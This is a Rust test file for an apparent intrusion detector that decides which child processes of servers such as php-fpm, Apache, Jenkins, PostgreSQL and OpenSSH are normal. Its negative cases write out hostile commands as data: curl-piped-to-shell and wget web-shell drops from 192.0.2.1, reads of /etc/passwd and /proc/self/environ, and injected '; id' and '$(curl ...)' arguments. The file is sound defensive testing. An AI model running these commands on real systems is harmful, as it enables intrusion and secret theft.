//! What servers normally start, and what only looks like it.

use super::shipped;
use crate::catalogue::NormalChild;
use crate::event::Exec;
use bstr::BStr;

/// A program, with each argument as it is.
fn started(executable: &str, argv: &[&str]) -> Exec {
    let argv = argv.iter().map(|&argument| argument.into()).collect();
    Exec { executable: executable.into(), argv, directory: "/".into(), uid: 33, euid: 33, ..Exec::default() }
}

fn sh(command: &str) -> Exec {
    started("/usr/bin/dash", &["sh", "-c", command])
}

fn child(server: &str, image: &Exec, title: Option<&str>) -> Option<&'static NormalChild> {
    let kind = shipped().server(server).unwrap_or_else(|| panic!("{server}"));
    kind.normal_child(image, title.map(BStr::new))
}

#[test]
fn commands_in_a_shell_are_normal_only_where_a_server_is_known_for_them() {
    for (server, command) in [
        ("php-fpm", "/usr/sbin/sendmail -t -i"),
        ("php-fpm", "/usr/sbin/sendmail -t -i "),
        ("php-fpm", "/usr/sbin/sendmail -t -i -f a@example.org"),
        ("php-fpm", "convert '/tmp/phpX1' -resize 300x300 '/var/www/html/wp-content/uploads/2026/11/a-300.jpg'"),
        ("php-fpm", "'/usr/bin/convert' 'a' 'b'"),
        ("php-fpm", "/usr/bin/php -r 'echo phpversion();'"),
        ("apache-httpd", "/usr/sbin/sendmail -t -i"),
        ("apache-httpd", "/usr/bin/rotatelogs /var/log/apache2/b.%Y 86400"),
        ("lighttpd", "/usr/share/lighttpd/create-mime.conf.pl"),
        ("varnish", "exec gcc -g -O2 -fpic -shared -Wl,-x -o vgc.so vgc.c"),
        ("mysql-mariadb", "wsrep_sst_rsync --role 'joiner' --address '10.0.0.1'"),
        ("rabbitmq", "exec /bin/sh -s unix:cmd"),
        ("couchdb", "exec /opt/couchdb/bin/couchjs -S 67108864 /opt/couchdb/share/server/main.js"),
        ("postfix", "/usr/lib/mailman/mail/mailman post dev"),
        ("sendmail-opensmtpd", "/usr/libexec/opensmtpd/mail.maildir"),
        ("nagios-icinga", "/usr/lib/nagios/plugins/check_disk -w 20% -c 10%"),
        ("nagios-icinga", "/usr/bin/printf \"%b\" \"x\" | /usr/bin/mail -s \"x\" admin@example.org"),
        ("kafka-zookeeper", "id -Gn kafadmin"),
        ("nodejs", "node -v || nodejs -v"),
        ("uwsgi", "{ touch /run/uwsgi-logrotate }"),
        ("python-wsgi", "echo Q | openssl s_client -connect localhost:443"),
        ("ruby-app", "convert a b"),
        (
            "jenkins",
            "({ while [ -d '/var/jenkins_home/workspace/p@tmp/durable-1a' -a \\! -f \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-result.txt' ]; do touch \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-log.txt'; sleep 3; done } & jsc=durable-9f; \
             JENKINS_SERVER_COOKIE=$jsc 'sh' -xe  '/var/jenkins_home/workspace/p@tmp/durable-1a/script.sh' > \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-log.txt' 2>&1; echo $? > \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-result.txt.tmp'; mv \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-result.txt.tmp' \
             '/var/jenkins_home/workspace/p@tmp/durable-1a/jenkins-result.txt'; wait) >&- 2>&- &",
        ),
    ] {
        assert!(child(server, &sh(command), None).is_some(), "{server}: {command}");
    }
    for (server, command) in [
        ("php-fpm", "id"),
        ("php-fpm", "/usr/sbin/sendmail -t -i; id"),
        ("php-fpm", "convert a b | sh"),
        ("php-fpm", "/usr/bin/php -r 'system($x);;)'"),
        ("php-fpm", "php /tmp/x.php -r 'echo phpversion();'"),
        ("php-fpm", "wget -O /var/www/html/x.php http://192.0.2.1/x"),
        ("apache-httpd", "cat /etc/passwd"),
        ("nginx", "id"),
        ("redis", "uname -a"),
        ("mongodb", "id"),
        ("mysql-mariadb", "id"),
        ("postgresql", "cp pg_wal/0001 /mnt/wal/0001"),
        ("tomcat", "id"),
        ("rabbitmq", "exec /tmp/x"),
        ("couchdb", "exec /tmp/q.sh"),
        ("exim", "wget http://192.0.2.1/e -O /root/.e"),
        ("postfix", "/var/mail/.x/hook"),
        ("nagios-icinga", "/usr/lib/nagios/plugins/check_disk -w $(curl http://192.0.2.1/n)"),
        ("nagios-icinga", "/usr/bin/printf x | /bin/sh"),
        ("clickhouse", "id"),
        ("grafana", "id"),
        ("nodejs", "ping -c1 192.0.2.1;id"),
        ("python-wsgi", "cat /proc/self/environ"),
        ("ruby-app", "curl http://192.0.2.1|sh"),
        ("jenkins", "curl http://192.0.2.1"),
        ("jenkins", "({ while [ -d '/tmp/x@tmp/durable-1a' ]; do id; done }"),
        ("sendmail-opensmtpd", "/usr/libexec/opensmtpd/mail.maildir; id"),
        ("oracle-db", "id"),
        ("openssh", "id"),
    ] {
        assert!(child(server, &sh(command), None).is_none(), "{server}: {command}");
    }
}

#[test]
fn programs_without_a_shell() {
    for (server, executable, argv) in [
        ("apache-httpd", "/usr/bin/bash", &["/bin/bash", "/usr/lib/cgi-bin/status.sh"][..]),
        ("apache-httpd", "/usr/bin/perl", &["/usr/bin/perl", "-w", "/usr/lib/cgi-bin/x.pl"]),
        ("apache-httpd", "/usr/lib/git-core/git-http-backend", &["git-http-backend"]),
        ("zimbra", "/usr/bin/perl", &["perl", "-w", "/opt/zimbra/libexec/zmstat-df"]),
        ("nagios-icinga", "/usr/bin/perl", &["/usr/bin/perl", "-w", "/usr/lib/nagios/plugins/check_x", "-H", "x"]),
        ("nagios-icinga", "/usr/bin/dash", &["/bin/sh", "/usr/lib/nagios/plugins/check_log"]),
        ("samba", "/usr/bin/python3.11", &["python3", "/usr/sbin/samba_dnsupdate", "--verbose"]),
        ("mysql-mariadb", "/usr/bin/bash", &["/bin/bash", "-ue", "/usr//bin/wsrep_sst_rsync", "--role"]),
        ("gitlab", "/usr/bin/perl", &["perl", "/opt/gitlab/embedded/bin/exiftool", "-all=", "-tagsFromFile", "@", "-"]),
        ("gitlab", "/opt/gitlab/embedded/bin/exiftool", &["exiftool", "-all=", "-"]),
        ("rabbitmq", "/usr/bin/dash", &["/bin/sh", "-s", "unix:cmd"]),
        ("exim", "/usr/bin/procmail", &["procmail", "-d", "alice"]),
        ("postfix", "/usr/lib/dovecot/dovecot-lda", &["dovecot-lda", "-f", "a@b", "-d", "c"]),
        ("nagios-icinga", "/usr/lib/nagios/plugins/check_ping", &["check_ping", "-H", "192.0.2.2"]),
        ("grafana", "/var/lib/grafana/plugins/vendor-ds/gpx_vendor-ds_linux_amd64", &["gpx"]),
        ("clickhouse", "/var/lib/clickhouse/user_scripts/geo.py", &["geo.py"]),
        ("clickhouse", "/usr/bin/python3.11", &["/usr/bin/python3", "/var/lib/clickhouse/user_scripts/geo.py"]),
        ("ruby-app", "/usr/bin/node", &["node", "execjs"]),
        ("mssql-linux", "/opt/mssql/mlservices/bin/python/python", &["python"]),
        ("python-wsgi", "/usr/bin/uname", &["uname", "-p"]),
    ] {
        assert!(child(server, &started(executable, argv), None).is_some(), "{server}: {argv:?}");
    }
    for (server, executable, argv) in [
        ("apache-httpd", "/usr/bin/dash", &["/bin/sh"][..]),
        ("apache-httpd", "/usr/bin/bash", &["bash", "-i"]),
        ("apache-httpd", "/usr/bin/bash", &["bash", "-c", "id", "/usr/lib/cgi-bin/x"]),
        ("apache-httpd", "/usr/bin/bash", &["bash", "-s", "/usr/lib/cgi-bin/x"]),
        ("apache-httpd", "/usr/bin/bash", &["bash", "/usr/lib/cgi-bin/../../../tmp/x"]),
        ("lighttpd", "/usr/bin/bash", &["sh", "-c", "/usr/share/lighttpd/../../../tmp/x"]),
        ("apache-httpd", "/tmp/bash", &["bash", "/usr/lib/cgi-bin/x"]),
        ("apache-httpd", "/usr/bin/bash", &["bash", "-c", "x.cgi"]),
        ("apache-httpd", "/usr/bin/perl", &["perl", "-e", "/usr/lib/cgi-bin/,exec q[id]"]),
        ("apache-httpd", "/usr/bin/python3.11", &["python3", "-c", "x", "/usr/lib/cgi-bin/x"]),
        ("nagios-icinga", "/usr/bin/python3.11", &["python3", "-c", "x", "/usr/lib/nagios/plugins/check_x"]),
        ("zimbra", "/usr/bin/perl", &["perl", "-e", "x", "/opt/zimbra/bin/x"]),
        ("gitlab", "/usr/bin/bash", &["bash", "-c", "id", "/custom_hooks/x"]),
        ("mysql-mariadb", "/usr/bin/bash", &["bash", "-ue", "-c", "id", "wsrep_sst_x"]),
        ("php-fpm", "/usr/bin/python3.11", &["python3", "-c", "import socket"]),
        ("postfix", "/var/tmp/.flt", &["argv"]),
        ("grafana", "/tmp/gpx_x", &["gpx"]),
        ("jenkins", "/usr/bin/id", &["id"]),
        ("mssql-linux", "/usr/bin/dash", &["sh", "-c", "id"]),
        // A copy of a shell elsewhere is none of the system's.
        ("php-fpm", "/tmp/dash", &["sh", "-c", "convert a b"]),
    ] {
        assert!(child(server, &started(executable, argv), None).is_none(), "{server}: {argv:?}");
    }
}

#[test]
fn a_script_is_what_the_kernel_says_it_is() {
    let image = |script: &str, argv: &[&str]| Exec { script: Some(script.into()), ..started("/usr/bin/perl", argv) };
    let cgi = image("/usr/lib/cgi-bin/x.pl", &["/usr/bin/perl", "-l0", "/usr/lib/cgi-bin/x.pl"]);
    assert!(child("apache-httpd", &cgi, None).is_some());
    let other = image("/tmp/x.pl", &["/usr/bin/perl", "/usr/lib/cgi-bin/x.pl"]);
    assert!(child("apache-httpd", &other, None).is_none());
}

#[test]
fn what_runs_below_a_normal_child_is_narrow() {
    let exec = |path: &str| started(path, &["x"]);
    let monitor = child("rabbitmq", &sh("exec /bin/sh -s unix:cmd"), None).unwrap();
    assert!(monitor.allows(&exec("/usr/bin/df")) && monitor.allows(&exec("/usr/bin/dash")));
    assert!(!monitor.allows(&exec("/usr/bin/curl")));
    assert!(monitor.allows(&started("/bin/busybox", &["/bin/df", "-kP"])));
    assert!(monitor.allows(&started("/bin/busybox", &["busybox", "df"])));
    assert!(!monitor.allows(&started("/bin/busybox", &["wget", "http://192.0.2.1/x"])));
    assert!(!monitor.allows(&started("/bin/busybox", &["busybox"])));
    let cgi = child("apache-httpd", &started("/usr/bin/bash", &["bash", "/usr/lib/cgi-bin/status.sh"]), None).unwrap();
    assert!(!cgi.allows(&exec("/usr/bin/wget")) && !cgi.allows(&exec("/tmp/b")));
    let exiftool =
        child("gitlab", &started("/usr/bin/perl", &["perl", "/opt/gitlab/embedded/bin/exiftool", "x"]), None);
    assert!(!exiftool.unwrap().allows(&exec("/usr/bin/dash")));
    let image = child("php-fpm", &sh("convert a b"), None).unwrap();
    assert!(image.allows(&exec("/usr/bin/convert-im6.q16")) && !image.allows(&exec("/usr/bin/curl")));
    let satellite =
        child("mssql-linux", &started("/opt/mssql/mlservices/bin/python/python", &["python"]), None).unwrap();
    assert!(!satellite.allows(&exec("/usr/bin/dash")));
    let mail = child("php-fpm", &sh("/usr/sbin/sendmail -t -i"), None).unwrap();
    assert!(mail.allows(&exec("/usr/sbin/exim4")) && !mail.allows(&exec("/usr/bin/id")));
}

#[test]
fn what_a_postgres_process_calls_itself_decides() {
    let archive = sh("test ! -f /mnt/wal/0001 && cp pg_wal/0001 /mnt/wal/0001");
    for title in [
        "postgres: archiver",
        "postgres: archiver archiving 000000010000000000000002",
        "postgres: 15/main: archiver last was 000000010000000000000001",
        "postgres: 15/main: archiver failed on 00000002.history",
        "postgres: startup recovering 000000010000000000000003",
    ] {
        let known = child("postgresql", &archive, Some(title));
        assert!(known.is_some_and(|known| known.learned && !known.leaves), "{title}");
    }
    for title in [
        Some("postgres: 15/main: postgres postgres [local] COPY"),
        Some("postgres: archiver archiver 127.0.0.1(40000) COPY"),
        Some("postgres: x: archiver last was db [local] UPDATE"),
        Some("postgres: postgres postgres [local] SELECT"),
        Some("/usr/lib/postgresql/15/bin/postgres -D /var/lib/postgresql/15/main"),
        None,
    ] {
        assert!(child("postgresql", &archive, title).is_none(), "{title:?}");
    }
}

#[test]
fn a_session_leaves_and_a_shell_without_one_is_not_normal() {
    let as_user = |image: Exec, euid: u32| Exec { uid: euid, euid, ..image };
    let login = started("/usr/bin/bash", &["-bash"]);
    for title in ["sshd: alice@pts/0", "sshd: alice@pts/12", "sshd: root@notty", "sshd-session: alice@notty"] {
        let known = child("openssh", &login, Some(title));
        assert!(known.is_some_and(|known| known.leaves), "{title}");
    }
    let sftp = started("/usr/lib/openssh/sftp-server", &["sftp-server"]);
    assert!(child("openssh", &sftp, Some("sshd: deploy@notty")).unwrap().leaves);
    for title in [
        Some("sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"),
        Some("sshd: [accepted]"),
        Some("sshd: root [priv]"),
        Some("sshd: alice@example.org [priv]"),
        Some("sshd: alice [net]"),
        Some("/usr/sbin/sshd -D -R"),
        None,
    ] {
        assert!(child("openssh", &as_user(sh("id"), 0), title).is_none(), "{title:?}");
        assert!(child("openssh", &login, title).is_none(), "{title:?}");
    }
    let motd = "/usr/bin/env -i PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin \
                run-parts --lsbsysinit /etc/update-motd.d";
    let redirected = format!("{motd} > /run/motd.dynamic.new");
    for command in [motd, &redirected] {
        let known = child("openssh", &as_user(sh(command), 0), Some("sshd: alice [priv]"));
        assert!(known.is_some_and(|known| !known.leaves), "{command}");
        assert!(child("openssh", &as_user(sh(command), 0), Some("sshd: [accepted]")).is_none());
        assert!(child("openssh", &as_user(sh(command), 1000), Some("sshd: alice [priv]")).is_none());
    }
}

#[test]
fn a_build_runs_in_its_workspace() {
    let step = |directory: &str| Exec {
        directory: directory.into(),
        ..started("/usr/bin/dash", &["/bin/sh", "-xe", "/tmp/jenkins812.sh"])
    };
    let known = child("jenkins", &step("/var/lib/jenkins/workspace/job1"), None).unwrap();
    assert!(known.allows(&started("/usr/bin/curl", &["curl"])));
    assert!(child("jenkins", &step("/"), None).is_none());
    let other = started("/usr/bin/dash", &["/bin/sh", "-xe", "/tmp/x.sh"]);
    assert!(child("jenkins", &Exec { directory: "/var/lib/jenkins/workspace/job1".into(), ..other }, None).is_none());
}

#[test]
fn the_servers_own_programs_are_its_own() {
    let owns = |server: &str, path: &str, argv: &[&str]| shipped().server(server).unwrap().owns(&started(path, argv));
    assert!(owns("tomcat", "/usr/lib/jvm/java-17-openjdk-amd64/lib/jspawnhelper", &["jspawnhelper"]));
    assert!(owns("ingress-nginx", "/usr/local/nginx/sbin/nginx", &["nginx", "-t", "-c", "/tmp/nginx/nginx-cfg3"]));
    let controller = "/usr/share/elasticsearch/modules/x-pack-ml/platform/linux-x86_64/bin/controller";
    assert!(owns("elasticsearch-opensearch", controller, &["controller"]));
    assert!(owns("couchdb", "/opt/couchdb/bin/couchjs", &["couchjs", "-S", "1", "main.js"]));
    assert!(owns("rabbitmq", "/usr/lib/erlang/erts-13.1.5/bin/erl_child_setup", &["erl_child_setup"]));
    assert!(owns("exim", "/usr/sbin/exim4", &["exim4", "-Mc", "1abcde"]));
    assert!(owns("apache-httpd", "/usr/bin/rotatelogs", &["rotatelogs", "x", "86400"]));
    assert!(!owns("python-wsgi", "/usr/bin/python3.11", &["python3", "-c", "x"]));
    assert!(!owns("rabbitmq", "/tmp/erts-1/bin/erl_child_setup", &["x"]));
}
